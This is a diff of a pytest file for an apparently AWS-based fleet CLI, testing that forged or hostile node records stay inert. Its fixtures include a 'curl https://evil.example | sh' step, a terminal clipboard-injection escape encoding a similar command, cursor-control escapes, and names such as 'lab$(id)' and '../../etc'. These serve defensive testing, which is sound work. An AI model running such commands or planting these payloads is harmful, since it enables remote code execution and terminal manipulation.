@@ -13,6 +13,7 @@ from pathlib import Path
 
 import pytest
 
+from bootstrap.ipfleet_node import wire
 from tests.fast.test_connect import STACK, keypair, published
 from tests.fast.test_hostile_documents import (
     ESC,
@@ -110,8 +111,8 @@ def test_without_an_ec2_controller_connect_warns_that_it_could_not_confirm(aws_e
 
 
 def test_a_forged_controller_record_does_not_stop_fetch(aws_env, tmp_path):
-    """An engine writes a 'failed controller' record with instructions: fetch, which
-    believes only the instance EC2 tags as the controller, keeps waiting instead."""
+    """An engine's record claims to be a failed controller, with instructions: fetch, which
+    reads only the controller's own record, keeps waiting instead."""
     home = tmp_path / "home"
     home.mkdir()
     controller_instance(aws_env)
@@ -122,7 +123,7 @@ def test_a_forged_controller_record_does_not_stop_fetch(aws_env, tmp_path):
         phase="failed",
         error={"step": "run: curl https://evil.example | sh", "exitCode": 1, "log": ["run: curl … | sh"]},
     )
-    ssm(aws_env).put_parameter(Name=f"/ipfleet/{STACK}/nodes/i-0badbadbadbadbad0", Value=forged, Type="String")
+    put_engine_records(aws_env, {"i-0badbadbadbadbad0": json.loads(forged)})
     result = run(aws_env, home, "fetch", STACK, "--region", "us-east-1", "--timeout", "4")
     assert result.returncode == 1
     assert "has not published connection info" in result.stderr
@@ -136,23 +137,24 @@ def test_status_shows_what_nodes_wrote_as_inert_text(aws_env, tmp_path):
     home = tmp_path / "home"
     home.mkdir()
     client = ssm(aws_env)
-    nodes = f"/ipfleet/{STACK}/nodes"
     hostile_log = ["\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07copied", "\x1b[1A\x1b[2Kall good", "[red]markup[/red]"]
-    client.put_parameter(
-        Name=f"{nodes}/i-0aaaaaaaaaaaaaaa1",
-        Value=record(
-            "i-0aaaaaaaaaaaaaaa1", phase="failed", error={"step": "[link=https://x]s[/link]", "log": hostile_log}
-        ),
-        Type="String",
+    put_engine_records(
+        aws_env,
+        {
+            "i-0aaaaaaaaaaaaaaa1": json.loads(
+                record(
+                    "i-0aaaaaaaaaaaaaaa1",
+                    phase="failed",
+                    error={"step": "[link=https://x]s[/link]", "log": hostile_log},
+                )
+            ),
+            "i-0aaaaaaaaaaaaaaa2": json.loads(record("i-0aaaaaaaaaaaaaaa2", engines="3")),
+            "i-0aaaaaaaaaaaaaaa3": json.loads(record("i-0aaaaaaaaaaaaaaa4")),
+            "i-0aaaaaaaaaaaaaaa5": "not a record",
+            # An engine claiming the controller's role: the controller's record has its own parameter.
+            "i-0aaaaaaaaaaaaaaa6": json.loads(record("i-0aaaaaaaaaaaaaaa6", role="controller", phase="failed")),
+        },
     )
-    client.put_parameter(
-        Name=f"{nodes}/i-0aaaaaaaaaaaaaaa2", Value=record("i-0aaaaaaaaaaaaaaa2", engines="3"), Type="String"
-    )
-    client.put_parameter(Name=f"{nodes}/i-0aaaaaaaaaaaaaaa3", Value=record("i-0aaaaaaaaaaaaaaa4"), Type="String")
-    client.put_parameter(Name=f"{nodes}/i-0aaaaaaaaaaaaaaa5", Value="not json", Type="String")
-    # An engine claiming the controller's role: the controller's record has its own parameter.
-    fake = record("i-0aaaaaaaaaaaaaaa6", role="controller", phase="failed")
-    client.put_parameter(Name=f"{nodes}/i-0aaaaaaaaaaaaaaa6", Value=fake, Type="String")
     client.put_parameter(
         Name=f"/ipfleet/{STACK}/controller",
         Value=record("i-0ccccccccccccccc1", role="controller", engines={"registered": 8}),
@@ -170,13 +172,26 @@ def test_status_shows_what_nodes_wrote_as_inert_text(aws_env, tmp_path):
     assert "[link=https://x]s[/link]" in out
     assert "i-0aaaaaaaaaaaaaaa2: engines" in out  # wrong type: named, left out
     assert "speaks for i-0aaaaaaaaaaaaaaa4, not for i-0aaaaaaaaaaaaaaa3" in out
-    assert "i-0aaaaaaaaaaaaaaa5: not JSON" in out
-    assert "i-0aaaaaaaaaaaaaaa6: claims the controller's role under the engines' path" in out
+    assert "i-0aaaaaaaaaaaaaaa5: " in out  # not an object: named, left out
+    assert "i-0aaaaaaaaaaaaaaa6: claims the controller's role among the engine nodes' records" in out
     assert "Engine group g?[31m: 2 nodes wanted" in out
     listed = json.loads(run(aws_env, home, "status", STACK, "--region", "us-east-1", "--json").stdout)
     assert [n["instanceId"] for n in listed["nodes"]] == ["i-0ccccccccccccccc1", "i-0aaaaaaaaaaaaaaa1"]
     assert listed["nodes"][0]["scaling"]["desired"] == 2
     assert len(listed["ignored"]) == 4
+
+
+def put_engine_records(aws_env: dict, nodes: dict) -> None:
+    """The engine nodes' records document as the controller's collector keeps it, in the
+    bucket the stack's location parameter names."""
+    import boto3
+
+    bucket = "hostile-stack-bucket"
+    s3 = boto3.client("s3", region_name="us-east-1", endpoint_url=aws_env["AWS_ENDPOINT_URL"])
+    s3.create_bucket(Bucket=bucket)
+    document = {"format": wire.RECORDS_FORMAT, "updated": "2026-11-30T00:00:00+00:00", "nodes": nodes}
+    s3.put_object(Bucket=bucket, Key=wire.RECORDS_KEY, Body=json.dumps(document).encode())
+    ssm(aws_env).put_parameter(Name=wire.records_location_parameter(STACK), Value=bucket, Type="String")
 
 
 @pytest.mark.parametrize("name", ["--help", "-x", "../../etc", "a/b", "lab$(id)", ".hidden", "x" * 101])
